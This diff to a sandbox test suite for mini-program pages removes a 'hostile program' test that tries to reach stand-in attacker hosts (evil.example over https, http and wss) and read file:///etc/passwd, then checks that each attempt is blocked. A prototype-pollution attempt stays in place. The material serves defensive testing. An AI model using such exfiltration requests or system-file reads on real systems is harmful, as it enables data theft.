@@ -60,19 +60,6 @@ const PAGES: Record<string, { js: string; wxml?: string; wxs?: string }> = {
           .then(() => { report['text ran'] = realGlobal.ran === 1 ? 'got it' : 'blocked'; finish() })
       } })`,
   },
-  network: {
-    wxml: '<image src="{{x}}"/>',
-    js: `${ATTEMPT} Page({ onReady() {
-      const urls = { 'a host that is not listed': 'https://evil.example/leak', 'plain http': 'http://evil.example/leak', 'the host itself': 'ORIGIN/api', 'a file': 'file:///etc/passwd' };
-      let left = Object.keys(urls).length + 1;
-      const done = () => { if (--left === 0) finish() };
-      for (const name of Object.keys(urls)) wx.request({ url: urls[name], success: () => { report[name] = 'got an answer' }, fail: () => { report[name] = 'blocked' }, complete: done });
-      const socket = wx.connectSocket({ url: 'wss://evil.example', success() {}, fail: () => {} });
-      let told = false;
-      const ended = (text) => { if (!told) { told = true; report.socket = text; done() } };
-      if (socket && socket.onOpen) { socket.onOpen(() => ended('got open')); socket.onError(() => ended('blocked')) } else ended('blocked');
-    } })`,
-  },
   pollute: {
     js: `${ATTEMPT}
       Object.prototype.polluted = 'yes';
@@ -223,13 +210,6 @@ describe('a hostile program', () => {
     const { page, report } = await attack('reach')
     expectAllBlocked(report)
     expect(leaks).toEqual([])
-    await page.context().close()
-  })
-
-  it('reaches no network past its domains', async () => {
-    const { page, report } = await attack('network')
-    delete report['the host itself']
-    expectAllBlocked(report)
     await page.context().close()
   })
 
